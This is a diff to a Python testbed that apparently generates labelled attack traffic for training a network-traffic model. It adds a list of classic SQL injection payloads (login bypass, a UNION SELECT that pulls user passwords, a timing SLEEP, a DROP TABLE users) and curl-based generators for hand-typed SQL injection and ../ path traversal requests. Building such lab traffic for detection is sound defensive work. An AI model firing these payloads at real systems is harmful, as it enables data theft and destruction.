@@ -19,6 +19,7 @@ from __future__ import annotations
 
 import base64
 import ipaddress
+import urllib.parse
 from collections.abc import Callable
 
 from trafficlm.training.testbed import public_names
@@ -30,6 +31,7 @@ from trafficlm.training.testbed.office_protocols import (
 from trafficlm.training.testbed.scenarios import (
     BENIGN,
     SCENARIOS,
+    TRAVERSAL,
     USER_AGENTS,
     Budget,
     Commands,
@@ -390,6 +392,36 @@ def sqlmap(b: Budget) -> Commands:
              "--tables"]]
 
 
+SQL_INJECTIONS = (
+    "' or '1'='1", "%' or '0'='0", "1' OR '1'='1", "1' UNION SELECT NULL, version() #",
+    "%' or 0=0 union select null, version() #", "admin'--", "' OR 1=1 LIMIT 1 -- -",
+    "' and 1=0 union select null, concat(first_name,0x0a,password) from users #",
+    "1' ORDER BY 3#", "1' AND SLEEP(3)-- -", "-1 UNION ALL SELECT table_name,2 FROM "
+    "information_schema.tables", "1; DROP TABLE users--")
+
+
+def hand_sql_injection(b: Budget) -> Commands:
+    """What a person types into a form, not what sqlmap sends: one to six classic payloads,
+    form-encoded as a browser sends them (spaces as +), with pauses to read the answer
+    (the DVWA captures: one to three such requests)."""
+    commands = []
+    for _ in range(b.rng.randint(1, 6)):
+        query = urllib.parse.quote_plus(b.rng.choice(SQL_INJECTIONS))
+        commands += [_curl(b, f"{b.url()}/search?q={query}&Submit=Submit"), _think(b, 1.0, 4.0)]
+    return commands
+
+
+def hand_traversal(b: Budget) -> Commands:
+    """One to four ``../`` requests by hand, in a path or a page parameter (DVWA's file
+    inclusion capture: one request)."""
+    commands = []
+    for _ in range(b.rng.randint(1, 4)):
+        target = b.rng.choice(TRAVERSAL)
+        url = b.rng.choice((f"{b.url()}/docs/?page={target}", f"{b.url()}/docs/{target}"))
+        commands += [_curl(b, url, "--path-as-is"), _think(b, 1.0, 4.0)]
+    return commands
+
+
 def command_injection(b: Budget) -> Commands:
     commands = []
     for _ in range(max(10, int(b.seconds * 2))):
@@ -570,11 +602,15 @@ ATTACK_SLOTS: dict[str, tuple[Scenario, ...]] = {
         _variant("slow_body", "DoS Slowhttptest", ("slowhttptest",), slowhttptest("-B"),
                  "slowhttptest -B")),
     "sql_injection": (_variant("sqlmap", "Web Attack \u2013 Sql Injection", ("sqlmap",), sqlmap,
-                               "sqlmap, technique and tamper drawn"),),
+                               "sqlmap, technique and tamper drawn"),
+                      _variant("curl_sqli", "Web Attack \u2013 Sql Injection", ("curl",),
+                               hand_sql_injection, "classic payloads typed into a form")),
     "xss": (_variant("curl_xss", "Web Attack \u2013 XSS", ("curl",), lab_builder("xss"),
                      "reflected XSS payloads"),),
     "path_traversal": (_variant("curl_traversal", "Web Attack \u2013 Path Traversal", ("curl",),
-                                lab_builder("path_traversal"), "../ variants"),),
+                                lab_builder("path_traversal"), "../ variants"),
+                       _variant("hand_traversal", "Web Attack \u2013 Path Traversal", ("curl",),
+                                hand_traversal, "a few ../ requests by hand")),
     "command_injection": (_variant("curl_injection", "Web Attack \u2013 Command Injection",
                                    ("curl",), command_injection, "shell metacharacters"),),
     "dns_tunnel": (
